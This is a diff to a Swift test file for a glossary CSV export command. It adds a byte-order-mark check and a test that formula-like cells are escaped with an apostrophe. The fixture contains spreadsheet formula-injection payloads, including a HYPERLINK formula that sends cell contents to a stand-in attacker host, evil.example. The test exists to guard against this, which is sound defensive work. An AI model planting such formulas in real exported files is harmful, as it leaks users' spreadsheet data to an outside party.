@@ -65,6 +65,9 @@ import Testing
         let folder = try Self.folder()
         let run = try CLIRun.run(["export", "glossary", "--format", "csv", "--to", "en"], in: folder.path)
         #expect(run.status == 0, "\(run.stderr)")
+        // A byte order mark first, so that Excel reads UTF-8 (Foundation's reading drops it).
+        let bytes = try Data(contentsOf: URL(fileURLWithPath: folder.path + "/Exports/glossary/glossary.csv"))
+        #expect(Array(bytes.prefix(4)) == [0xEF, 0xBB, 0xBF, UInt8(ascii: "i")])
         #expect(
             try folder.read("Exports/glossary/glossary.csv") == """
                 id,ru,en,forbidden ru,forbidden en,note,do-not-translate\r
@@ -73,6 +76,28 @@ import Testing
                 kurt,курт,kurt,,,"Dried cheese, salty; keep the word",\r
 
                 """)
+    }
+
+    /// A glossary merged from an untrusted TBX may hold formulas: a spreadsheet shows them as text.
+    @Test func csvCellsThatWouldBeFormulasStartWithAnApostrophe() throws {
+        let folder = try TemporaryFolder()
+        try folder.write("Captions/captions.yml", "languages: [kk, ru, en]\nsource: ru\n")
+        try folder.write(
+            "Captions/glossary.yml",
+            """
+            - id: formula
+              ru: инъекция
+              en: [=1+2, "@SUM(A1:A2)", +7, -1, plain]
+              note: '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+            """)
+        let run = try CLIRun.run(["export", "glossary", "--format", "csv", "--to", "en"], in: folder.path)
+        #expect(run.status == 0, "\(run.stderr)")
+        let csv = try folder.read("Exports/glossary/glossary.csv")
+        #expect(
+            csv.split(separator: "\r\n").dropFirst().first
+                == "formula,инъекция,'=1+2 | @SUM(A1:A2) | +7 | -1 | plain,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","
+        )
     }
 
     @Test(.enabled(if: TranslateToolkit.tbxAvailable, "needs python3 with translate-toolkit (translate.storage.tbx)"))
